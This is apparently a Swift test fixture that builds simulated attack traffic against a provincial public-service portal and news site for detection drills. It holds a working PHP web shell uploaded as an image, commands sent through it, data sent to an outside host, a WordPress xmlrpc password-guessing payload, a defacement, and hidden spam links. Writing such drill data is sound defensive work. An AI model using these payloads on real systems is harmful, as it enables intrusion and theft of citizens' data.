import TestSupport

extension Scenario {
    /// Attacks on what the province shows to its citizens.
    static var webDrill: [Scenario] { [portalShell, defacedPortal] }

    private static let portal = "198.51.100.10"
    private static let service = "dichvucong.example"

    /// A script among the pictures of the public-service portal, and what is carried away through it.
    private static var portalShell: Scenario {
        var day = DrillDay(port: 56401)
        day.everyday(
            until: 870, pace: 22, seed: 56401,
            ["192.0.2.3", "203.0.113.141", "192.0.2.19", "203.0.113.142", "192.0.2.35"])
        let (attacker, again) = ("203.0.113.80", "203.0.113.81")
        day.talk(at: 60, attacker, portal, 80) { talk in
            for target in ["/quan-tri/", "/sao-luu/", "/uploads/", "/gop-y/"] {
                talk.client(
                    sends: "GET \(target) HTTP/1.1\r\nHost: \(service)\r\nUser-Agent: gobuster/3.6\r\n\r\n")
                talk.server(sends: Text.response("<p>Không có</p>"))
                talk.wait(seconds: 2)
            }
        }
        let source = "<?php if (isset($_POST['x'])) { @sys" + "tem( $_POST['x'] ); } ?>"
        day.upload(
            at: 240, attacker, portal, "/gop-y/tai-len", host: service, "anh-hien-truong.php",
            type: "image/png", Array(source.utf8))
        day.talk(at: 390, again, portal, 80) { talk in
            let page = "/uploads/anh-hien-truong.php?cmd="
            talk.client(sends: Text.request("GET", page + "id%20-a", host: service))
            talk.server(sends: Text.response("<pre>uid=33(www-data) gid=33(www-data)\n</pre>"))
            talk.wait(seconds: 15)
            talk.client(sends: Text.request("GET", page + "ls%20/var/sao-luu", host: service))
            talk.server(sends: Text.response("<pre>ho-so.sql\ncong-dan.csv\n</pre>"))
        }
        day.web(
            at: 600, again, portal, asks: Text.request("GET", "/uploads/ho-so.sql", host: service),
            gets: Text.response(DrillFiles.dumps[0], type: "application/sql"))
        day.put(
            at: 780, portal, "203.0.113.110", "/thu-muc/cong-dan.csv", host: "luutru.example",
            Array(DrillFiles.people(60).utf8))
        nightlyBackup(at: 300, in: &day)
        return Scenario("drills/portal-webshell", day)
    }

    /// The database server writes its packed backup to the backup server, as it does every night.
    private static func nightlyBackup(at second: Int, in day: inout DrillDay) {
        var generator = SeededGenerator(seed: 56499)
        let backup = Text.noise(length: 12_000, from: &generator)
        day.share(at: second, "198.51.100.12", "198.51.100.40", "sao-luu") { share in
            share.open("ho-so-20261124.gz.enc", size: nil)
            for start in stride(from: 0, to: backup.count, by: 4000) {
                share.write(Array(backup[start..<start + 4000]), at: start)
            }
        }
    }

    /// The province's news site is searched, entered and written over; later, links are hidden in it.
    private static var defacedPortal: Scenario {
        var day = DrillDay(port: 56601)
        day.everyday(
            until: 1380, pace: 32, seed: 56601, ["203.0.113.143", "192.0.2.4", "192.0.2.67", "203.0.113.144"])
        let (attacker, news, host) = ("203.0.113.85", "198.51.100.18", "tin.example")
        day.talk(at: 90, attacker, news, 80) { talk in
            for target in ["/", "/?author=1", "/readme.html"] {
                talk.client(
                    sends: "GET \(target) HTTP/1.1\r\nHost: \(host)\r\nUser-Agent: WPScan v3.8.22\r\n\r\n")
                talk.server(sends: Text.response("<p>Tin trong tỉnh</p>"))
                talk.wait(seconds: 3)
            }
        }
        let guess =
            "<struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value>"
            + "</member><member><name>params</name><value>drill</value></member></struct>"
        day.web(
            at: 300, attacker, news,
            asks: Text.request(
                "POST", "/xmlrpc.php", host: host,
                body: "<methodCall><methodName>system.multicall</methodName><params>"
                    + String(repeating: guess, count: 6) + "</params></methodCall>"))
        let page = "<html><title>Hacked by DRILL-0</title><body>Trang của một cuộc diễn tập</body></html>"
        day.put(at: 600, attacker, news, "/index.html", host: host, Array(page.utf8))
        for (second, reader) in [(570, "203.0.113.145"), (690, "203.0.113.146"), (960, "203.0.113.151")] {
            day.web(
                at: second, reader, news, asks: Text.request("GET", "/", host: host),
                gets: Text.response(second != 690 ? "<h1>Tin trong tỉnh</h1>" : page))
        }
        let links = ["nhà cái uy tín", "tài xỉu trực tuyến", "cá cược bóng đá"].map {
            "<a href=\"http://drill.invalid/\">\($0)</a>"
        }
        day.web(
            at: 1200, "203.0.113.147", news, asks: Text.request("GET", "/tin-tuc", host: host),
            gets: Text.response(
                "<html><h1>Thông báo</h1><div style=\"display:none\">\(links.joined(separator: "\n"))</div>"))
        return Scenario("drills/defacement", day)
    }
}
